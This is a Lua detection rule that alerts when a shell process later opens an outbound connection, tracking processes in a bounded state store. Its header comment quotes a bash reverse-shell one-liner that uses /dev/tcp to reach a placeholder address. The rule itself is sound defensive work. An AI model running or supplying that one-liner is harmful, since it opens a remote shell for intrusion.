-- Stateful detection: a shell is started, and later the same process (tgid)
-- opens an outbound connection, as in `bash -i >& /dev/tcp/10.0.0.1/4444 0>&1`.
-- The store forgets a process when it exits, when it is idle for 10 minutes,
-- or when more than 4096 processes are remembered (least recently seen first).
local guard = require("guard")

local shells = guard.state { max = 4096, ttl = 600 }
local shell = guard.regex([[(?:^|/)(?:ba|da|k|z)?sh$]])

return {
  id = "shell_then_connect",
  description = "Shell process opened an outbound connection",
  event_types = { "exec", "connect" },
  severity = "error",
  tags = { "T1059.004", "T1071" },
  match = function(ev)
    if ev.type == "exec" then
      -- an exec replaces the process image: remember shells, forget the rest
      if shell:test(ev.filename) then
        shells:set(ev.tgid, ev.filename)
      else
        shells:delete(ev.tgid)
      end
      return false
    end
    local sh = shells:get(ev.tgid)
    if not sh then return false end
    return {
      description = ("Shell %s (tgid %d) connected to %s port %d"):format(sh, ev.tgid, ev.dest_ip, ev.dest_port),
    }
  end,
}
